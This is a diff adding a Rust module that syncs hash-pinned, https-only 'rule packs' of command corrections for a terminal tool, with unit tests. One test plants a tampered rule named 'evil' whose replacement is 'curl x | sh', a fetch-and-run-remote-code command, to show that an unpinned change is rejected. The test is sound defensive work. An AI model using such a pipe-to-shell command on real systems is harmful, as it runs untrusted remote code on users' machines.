@@ -0,0 +1,430 @@
+//! Rule packs: TOML files of rules shared by a team.
+//!
+//! A pack is listed in the config with the URL it's downloaded from and the
+//! SHA-256 of its file:
+//!
+//! ```toml
+//! [rule_packs.team]
+//! url = "https://git.example.com/team/ftf-rules/raw/main/rules.toml"
+//! sha256 = "5f0c8b1d..."
+//! ```
+//!
+//! and holds regex rules like:
+//!
+//! ```toml
+//! [[rules]]
+//! name = "deploy_typo"
+//! command = '^deplyo\s+(\S+)'
+//! replace = "deploy $1"
+//! priority = 900
+//! description = "Fix a misspelled deploy"
+//! ```
+//!
+//! `command` and `output` are regexes matched against the script and output;
+//! a rule needs at least one. `replace` is the correction, where `$1` or
+//! `${name}` stands for a group of `command`, or of `output` if there's no
+//! `command`. Patterns are bounded like any other pattern from outside ftf
+//! (see [`PatternLimits`]).
+//!
+//! [`sync`] downloads a pack, checks it against its pinned hash, validates
+//! every rule and keeps a copy in `~/.config/fasterthefuck/packs/` with the
+//! server's ETag. Corrections only ever [`load`] that copy, checked against
+//! the hash again, so they work offline and never wait on the network.
+//! https:// URLs are fetched with `curl`; file:// ones are read directly.
+
+use crate::config::RulePackConfig;
+use crate::rules::{PatternLimits, RuleFactory};
+use crate::{Error, RegexRuleBuilder, Result, Rule, RuleBuildError};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::path::{Path, PathBuf};
+use std::process::Command as StdCommand;
+
+/// Seconds a download may take.
+const FETCH_TIMEOUT_SECS: &str = "60";
+
+/// Gets the SHA-256 digest of `bytes` as lowercase hex, as `sha256sum`
+/// prints it.
+pub fn sha256_hex(bytes: &[u8]) -> String {
+    Sha256::digest(bytes).iter().map(|byte| format!("{:02x}", byte)).collect()
+}
+
+/// Gets the directory synced packs are kept in.
+pub fn default_dir() -> Option<PathBuf> {
+    dirs::config_dir().map(|dir| dir.join("fasterthefuck").join("packs"))
+}
+
+/// Gets a factory for the copy of pack `name` kept in `dir`.
+pub fn factory(dir: PathBuf, name: String, pack: RulePackConfig, limits: PatternLimits) -> RuleFactory<'static> {
+    RuleFactory::new("packs", &[], move || load(&dir, &name, &pack, &limits))
+}
+
+/// A rule of a pack, as written in its file.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct PackRule {
+    name: String,
+    command: Option<String>,
+    output: Option<String>,
+    replace: String,
+    #[serde(default = "default_priority")]
+    priority: i32,
+    description: Option<String>,
+}
+
+fn default_priority() -> i32 {
+    super::DEFAULT_PRIORITY
+}
+
+/// The contents of a pack's file.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct PackFile {
+    #[serde(default)]
+    rules: Vec<PackRule>,
+}
+
+/// Builds the rules of the pack file `source`, failing on the first one
+/// that's invalid with the index of its `[[rules]]` table.
+pub fn parse(source: &str, limits: &PatternLimits) -> Result<Vec<Box<dyn Rule>>> {
+    let file: PackFile = toml::from_str(source).map_err(|e| Error::rule(format!("invalid rule pack: {}", e)))?;
+    file.rules
+        .into_iter()
+        .enumerate()
+        .map(|(index, rule)| build(rule, limits).map_err(|e| Error::from(e.in_table(index))))
+        .collect()
+}
+
+/// Builds one rule of a pack.
+fn build(rule: PackRule, limits: &PatternLimits) -> std::result::Result<Box<dyn Rule>, RuleBuildError> {
+    let mut builder = RegexRuleBuilder::new(&rule.name).priority(rule.priority);
+    if let Some(pattern) = &rule.command {
+        builder = builder.match_command_bounded(pattern, limits)?;
+    }
+    if let Some(pattern) = &rule.output {
+        builder = builder.match_output_bounded(pattern, limits)?;
+    }
+    if let Some(description) = rule.description {
+        builder = builder.describe(description);
+    }
+    builder.replace_template(rule.replace)
+}
+
+/// Gets the name of every rule of the copy of pack `name` kept in `dir`,
+/// with why the rule can't be built if it can't, for checking the pack
+/// without loading it. A pack that was never synced has no rules.
+pub fn inspect(dir: &Path, name: &str, limits: &PatternLimits) -> Result<Vec<(String, Option<RuleBuildError>)>> {
+    let (file, _) = paths(dir, name);
+    let Ok(source) = std::fs::read_to_string(&file) else {
+        return Ok(Vec::new());
+    };
+    let file: PackFile = toml::from_str(&source).map_err(|e| Error::rule(format!("invalid rule pack: {}", e)))?;
+    Ok(file
+        .rules
+        .into_iter()
+        .enumerate()
+        .map(|(index, rule)| (rule.name.clone(), build(rule, limits).err().map(|e| e.in_table(index))))
+        .collect())
+}
+
+/// What's kept next to a synced pack's file.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+struct Synced {
+    url: String,
+    sha256: String,
+    etag: Option<String>,
+}
+
+/// Gets the paths of the copy of pack `name` and of what's known about it.
+fn paths(dir: &Path, name: &str) -> (PathBuf, PathBuf) {
+    (dir.join(format!("{}.toml", name)), dir.join(format!("{}.json", name)))
+}
+
+/// Loads the rules of the copy of pack `name` kept in `dir`. A pack that
+/// was never synced has none; one whose copy doesn't have the pinned hash or
+/// is invalid is logged and has none either.
+pub fn load(dir: &Path, name: &str, pack: &RulePackConfig, limits: &PatternLimits) -> Vec<Box<dyn Rule>> {
+    let (file, _) = paths(dir, name);
+    let Ok(source) = std::fs::read(&file) else {
+        tracing::debug!(pack = name, "rule pack not synced");
+        return Vec::new();
+    };
+    let loaded = check_pin(name, pack, &source).and_then(|()| {
+        let source = String::from_utf8(source).map_err(|_| Error::rule("rule pack isn't UTF-8"))?;
+        parse(&source, limits)
+    });
+    match loaded {
+        Ok(rules) => {
+            tracing::debug!(pack = name, rules = rules.len(), "loaded rule pack");
+            rules
+        }
+        Err(e) => {
+            tracing::warn!(pack = name, error = %e, "rule pack not loaded");
+            Vec::new()
+        }
+    }
+}
+
+/// Fails unless `bytes` have the hash pinned for pack `name`.
+fn check_pin(name: &str, pack: &RulePackConfig, bytes: &[u8]) -> Result<()> {
+    let actual = sha256_hex(bytes);
+    match &pack.sha256 {
+        Some(pinned) if pinned.eq_ignore_ascii_case(&actual) => Ok(()),
+        Some(pinned) => Err(Error::config(format!(
+            "rule pack '{}' has sha256 {}, not the pinned {}",
+            name, actual, pinned
+        ))),
+        None => Err(Error::config(format!(
+            "rule pack '{}' isn't pinned; after checking it, add sha256 = \"{}\" to [rule_packs.{}]",
+            name, actual, name
+        ))),
+    }
+}
+
+/// What [`sync`] did.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum SyncOutcome {
+    /// The pack was downloaded and its copy replaced.
+    Updated {
+        /// Number of rules in the pack
+        rules: usize,
+    },
+    /// The server said the pack hasn't changed since the last sync.
+    Unchanged,
+}
+
+/// Downloads pack `name` into `dir`, after checking it has the pinned hash
+/// and that every rule is valid. On failure the previous copy is kept.
+pub fn sync(dir: &Path, name: &str, pack: &RulePackConfig, limits: &PatternLimits) -> Result<SyncOutcome> {
+    let (file, meta) = paths(dir, name);
+    let previous: Option<Synced> = std::fs::read(&meta)
+        .ok()
+        .and_then(|json| serde_json::from_slice(&json).ok())
+        .filter(|synced: &Synced| synced.url == pack.url && file.exists());
+    // Only a copy that's still pinned is worth keeping
+    let etag = previous
+        .filter(|synced| pack.sha256.as_ref().is_some_and(|pinned| pinned.eq_ignore_ascii_case(&synced.sha256)))
+        .and_then(|synced| synced.etag);
+
+    std::fs::create_dir_all(dir)?;
+    let Some((bytes, etag)) = fetch(&pack.url, etag.as_deref(), &dir.join(format!(".{}.headers", name)))? else {
+        return Ok(SyncOutcome::Unchanged);
+    };
+    check_pin(name, pack, &bytes)?;
+    let source = String::from_utf8(bytes).map_err(|_| Error::rule("rule pack isn't UTF-8"))?;
+    let rules = parse(&source, limits)?.len();
+
+    let synced = Synced {
+        url: pack.url.clone(),
+        sha256: sha256_hex(source.as_bytes()),
+        etag,
+    };
+    write_atomically(&file, source.as_bytes())?;
+    let json = serde_json::to_vec_pretty(&synced).map_err(|e| Error::Other(e.to_string()))?;
+    write_atomically(&meta, &json)?;
+    Ok(SyncOutcome::Updated { rules })
+}
+
+/// Writes `bytes` to `path` through a temporary file, so a reader never
+/// sees half of it.
+fn write_atomically(path: &Path, bytes: &[u8]) -> Result<()> {
+    let temporary = path.with_extension("tmp");
+    std::fs::write(&temporary, bytes)?;
+    std::fs::rename(&temporary, path)?;
+    Ok(())
+}
+
+/// Downloads `url`, sending `etag` so an unchanged file isn't sent again.
+/// Gets the file and its new ETag, or `None` if it's unchanged. `headers`
+/// is a scratch file for curl's response headers.
+fn fetch(url: &str, etag: Option<&str>, headers: &Path) -> Result<Option<(Vec<u8>, Option<String>)>> {
+    if let Some(path) = url.strip_prefix("file://") {
+        let bytes = std::fs::read(path).map_err(|e| Error::config(format!("cannot read {}: {}", url, e)))?;
+        return Ok(Some((bytes, None)));
+    }
+    if !url.starts_with("https://") {
+        return Err(Error::config(format!("rule pack URL {} isn't https:// or file://", url)));
+    }
+
+    let mut curl = StdCommand::new("curl");
+    curl.args(["--silent", "--show-error", "--fail", "--location", "--proto", "=https"])
+        .args(["--max-time", FETCH_TIMEOUT_SECS, "--write-out", "\n%{http_code}", "--dump-header"])
+        .arg(headers);
+    if let Some(etag) = etag {
+        curl.arg("--header").arg(format!("If-None-Match: {}", etag));
+    }
+    let output = curl.arg(url).output()?;
+    let dumped = std::fs::read_to_string(headers).unwrap_or_default();
+    let _ = std::fs::remove_file(headers);
+    if !output.status.success() {
+        return Err(Error::config(format!(
+            "cannot download {}: {}",
+            url,
+            String::from_utf8_lossy(&output.stderr).trim()
+        )));
+    }
+
+    // The body is followed by a line with the status code
+    let mut body = output.stdout;
+    let split = body.iter().rposition(|&byte| byte == b'\n').unwrap_or(0);
+    let status = String::from_utf8_lossy(&body[split..]).trim().to_string();
+    body.truncate(split);
+    if status == "304" {
+        return Ok(None);
+    }
+    Ok(Some((body, response_etag(&dumped))))
+}
+
+/// Gets the ETag of the last response in `headers`, as curl dumps them
+/// across redirects.
+fn response_etag(headers: &str) -> Option<String> {
+    let last = headers.trim_end().rsplit("\r\n\r\n").next().unwrap_or_default();
+    last.lines()
+        .filter_map(|line| line.split_once(':'))
+        .find(|(name, _)| name.trim().eq_ignore_ascii_case("etag"))
+        .map(|(_, value)| value.trim().to_string())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{Command, RuleBuildErrorKind};
+
+    const PACK: &str = r#"
+[[rules]]
+name = "deploy_typo"
+command = '^deplyo\s+(\S+)'
+replace = "deploy $1"
+priority = 900
+description = "Fix a misspelled deploy"
+
+[[rules]]
+name = "vpn_down"
+output = 'cannot reach (?P<host>\S+)'
+replace = "vpn up && ping ${host}"
+"#;
+
+    fn temp_dir(name: &str) -> PathBuf {
+        let dir = std::env::temp_dir().join(format!("ftf_packs_{}_{}", name, std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(&dir).unwrap();
+        dir
+    }
+
+    fn pack(url: String, sha256: Option<String>) -> RulePackConfig {
+        RulePackConfig {
+            url,
+            enabled: true,
+            sha256,
+        }
+    }
+
+    #[test]
+    fn test_pack_rules_correct() {
+        let rules = parse(PACK, &PatternLimits::default()).unwrap();
+        assert_eq!(rules.len(), 2);
+        assert_eq!(rules[0].priority(), 900);
+        assert_eq!(rules[1].priority(), super::super::DEFAULT_PRIORITY);
+
+        let command = Command::new("deplyo prod", "", 127);
+        assert!(rules[0].matches(&command));
+        assert_eq!(rules[0].get_new_commands(&command), vec!["deploy prod"]);
+
+        let command = Command::new("ping db", "cannot reach db.internal", 1);
+        assert!(rules[1].matches(&command));
+        assert_eq!(rules[1].get_new_commands(&command), vec!["vpn up && ping db.internal"]);
+    }
+
+    #[test]
+    fn test_invalid_packs_are_rejected() {
+        let limits = PatternLimits::default();
+        assert!(parse("[[rules]]\nname = \"x\"\nreplace = \"y\"\n", &limits).is_err());
+        assert!(parse("[[rules]]\nname = \"x\"\ncommand = \"(\"\nreplace = \"y\"\n", &limits).is_err());
+        assert!(parse("[[rules]]\nname = \"x\"\ncommand = \"a\"\nreplace = \"y\"\nshell = true\n", &limits).is_err());
+        let huge = format!("[[rules]]\nname = \"x\"\ncommand = '{}'\nreplace = \"y\"\n", "a".repeat(5000));
+        assert!(parse(&huge, &limits).is_err());
+    }
+
+    #[test]
+    fn test_invalid_rule_errors_name_their_table() {
+        let limits = PatternLimits::default();
+        let broken = "[[rules]]\nname = \"broken\"\ncommand = '^deplyo (\\S+)'\nreplace = \"deploy $2\"\n";
+        let source = format!("{}\n{}", PACK, broken);
+        let Err(Error::RuleBuild(error)) = parse(&source, &limits) else {
+            panic!("the third rule was accepted");
+        };
+        assert_eq!((error.rule_name.as_str(), error.table), ("broken", Some(2)));
+        assert!(matches!(error.kind, RuleBuildErrorKind::InvalidTemplate { .. }), "{:?}", error);
+        assert_eq!(
+            error.to_string(),
+            "rule 'broken' ([[rules]] table 3): invalid replacement 'deploy $2': the pattern has no group '2'"
+        );
+
+        let Err(Error::RuleBuild(error)) = parse("[[rules]]\nname = \"x\"\nreplace = \"y\"\n", &limits) else {
+            panic!("a rule without patterns was accepted");
+        };
+        assert!(matches!(error.kind, RuleBuildErrorKind::MissingPattern));
+    }
+
+    #[test]
+    fn test_sync_file_url_and_load() {
+        let dir = temp_dir("sync");
+        let source = dir.join("team.toml.src");
+        std::fs::write(&source, PACK).unwrap();
+        let pack = pack(format!("file://{}", source.display()), Some(sha256_hex(PACK.as_bytes())));
+        let cache = dir.join("packs");
+        let limits = PatternLimits::default();
+
+        assert!(load(&cache, "team", &pack, &limits).is_empty());
+        assert_eq!(sync(&cache, "team", &pack, &limits).unwrap(), SyncOutcome::Updated { rules: 2 });
+        assert_eq!(load(&cache, "team", &pack, &limits).len(), 2);
+
+        // The source going away doesn't affect the copy
+        std::fs::remove_file(&source).unwrap();
+        assert!(sync(&cache, "team", &pack, &limits).is_err());
+        assert_eq!(load(&cache, "team", &pack, &limits).len(), 2);
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_tampered_pack_is_rejected() {
+        let dir = temp_dir("tampered");
+        let source = dir.join("team.toml.src");
+        std::fs::write(&source, PACK).unwrap();
+        let url = format!("file://{}", source.display());
+        let cache = dir.join("packs");
+        let limits = PatternLimits::default();
+
+        let tampered = format!("{}\n[[rules]]\nname = \"evil\"\ncommand = \"^\"\nreplace = \"curl x | sh\"\n", PACK);
+        std::fs::write(&source, &tampered).unwrap();
+        let pinned = pack(url.clone(), Some(sha256_hex(PACK.as_bytes())));
+        let error = sync(&cache, "team", &pinned, &limits).unwrap_err().to_string();
+        assert!(error.contains("not the pinned"), "{}", error);
+        assert!(!cache.join("team.toml").exists());
+
+        let error = sync(&cache, "team", &pack(url, None), &limits).unwrap_err().to_string();
+        assert!(error.contains(&format!("sha256 = \"{}\"", sha256_hex(tampered.as_bytes()))), "{}", error);
+
+        // A copy edited after syncing isn't loaded either
+        std::fs::write(&source, PACK).unwrap();
+        sync(&cache, "team", &pinned, &limits).unwrap();
+        std::fs::write(cache.join("team.toml"), &tampered).unwrap();
+        assert!(load(&cache, "team", &pinned, &limits).is_empty());
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_response_etag_is_the_last() {
+        let headers = "HTTP/2 302\r\netag: \"old\"\r\n\r\nHTTP/2 200\r\nETag: \"abc\"\r\n\r\n";
+        assert_eq!(response_etag(headers), Some("\"abc\"".to_string()));
+        assert_eq!(response_etag("HTTP/2 302\r\netag: \"old\"\r\n\r\nHTTP/2 200\r\n\r\n"), None);
+    }
+
+    #[test]
+    fn test_other_schemes_are_refused() {
+        let error = fetch("http://example.com/rules.toml", None, Path::new("/nonexistent")).unwrap_err();
+        assert!(error.to_string().contains("isn't https:// or file://"));
+    }
+}